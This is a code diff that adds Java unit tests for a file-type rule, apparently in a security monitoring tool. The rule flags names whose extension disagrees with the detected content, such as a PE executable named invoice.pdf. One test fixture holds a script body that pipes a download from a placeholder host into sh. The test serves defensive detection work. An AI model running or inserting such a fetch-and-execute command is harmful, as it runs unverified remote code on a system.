@@ -2,6 +2,11 @@ package net.sguil.bridge.rules;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import java.io.ByteArrayOutputStream;
+import java.nio.charset.StandardCharsets;
+import java.util.zip.ZipEntry;
+import java.util.zip.ZipOutputStream;
+import net.sguil.bridge.files.FileTypeDetector;
 import org.junit.jupiter.api.Test;
 
 class FileTypesTest {
@@ -33,5 +38,65 @@ class FileTypesTest {
         assertThat(FileTypes.hasDoubleExtension("setup.v2.exe")).isFalse();
         assertThat(FileTypes.hasDoubleExtension("installer.exe")).isFalse();
         assertThat(FileTypes.hasDoubleExtension("")).isFalse();
+    }
+
+    @Test
+    void expectedTypesForExtensions() {
+        assertThat(FileTypes.expectedTypes("pdf")).containsExactly("pdf");
+        assertThat(FileTypes.expectedTypes(".DOCX")).containsExactlyInAnyOrder("ooxml", "zip");
+        assertThat(FileTypes.expectedTypes("txt")).containsExactly("text");
+        assertThat(FileTypes.expectedTypes("exe")).containsExactlyInAnyOrder("pe", "mz");
+        assertThat(FileTypes.expectedTypes("weird")).isEmpty();
+        assertThat(FileTypes.expectedTypes(null)).isEmpty();
+    }
+
+    /** The rule "name lies about its type" over what the detector really says of real file heads. */
+    @Test
+    void namesThatLieAboutTheDetectedContent() throws Exception {
+        byte[] pe = new byte[0x100];
+        pe[0] = 'M';
+        pe[1] = 'Z';
+        pe[0x3C] = (byte) 0x80;
+        pe[0x80] = 'P';
+        pe[0x81] = 'E';
+        byte[] elf = {0x7F, 'E', 'L', 'F', 2, 1, 1, 0};
+        byte[] script = "#!/bin/sh\ncurl http://x/a | sh\n".getBytes(StandardCharsets.US_ASCII);
+        byte[] pdf = "%PDF-1.7\n1 0 obj\n".getBytes(StandardCharsets.US_ASCII);
+        byte[] docx = zip("[Content_Types].xml", "word/document.xml");
+        byte[] plainZip = zip("readme.txt");
+        byte[] png = {(byte) 0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13, 'I', 'H', 'D', 'R'};
+        byte[] jpeg = {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0, 0, 16, 'J', 'F', 'I', 'F', 0};
+
+        assertThat(lies("invoice.pdf", pe)).isTrue();
+        assertThat(lies("setup.exe", pe)).isFalse();
+        assertThat(lies("libfoo.so", elf)).isFalse();
+        assertThat(lies("photo.jpg", elf)).isTrue();
+        assertThat(lies("install.sh", script)).isFalse();
+        assertThat(lies("notes.txt", script)).isTrue();
+        assertThat(lies("report.pdf", pdf)).isFalse();
+        assertThat(lies("report.docx", pdf)).isTrue();
+        assertThat(lies("letter.docx", docx)).isFalse();
+        assertThat(lies("letter.docx", plainZip)).as("a docx is a zip").isFalse();
+        assertThat(lies("letter.doc", docx)).as("a .doc is OLE2, not OOXML").isTrue();
+        assertThat(lies("photo.png", png)).isFalse();
+        assertThat(lies("photo.jpg", png)).isTrue();
+        assertThat(lies("photo.jpeg", jpeg)).isFalse();
+    }
+
+    private static boolean lies(String name, byte[] content) {
+        return FileTypes.extensionDisagrees(name, FileTypeDetector.detect(content, content.length).magic(),
+                content.length);
+    }
+
+    private static byte[] zip(String... names) throws Exception {
+        ByteArrayOutputStream bo = new ByteArrayOutputStream();
+        try (ZipOutputStream z = new ZipOutputStream(bo)) {
+            for (String n : names) {
+                z.putNextEntry(new ZipEntry(n));
+                z.write("<x/>".getBytes(StandardCharsets.US_ASCII));
+                z.closeEntry();
+            }
+        }
+        return bo.toByteArray();
     }
 }
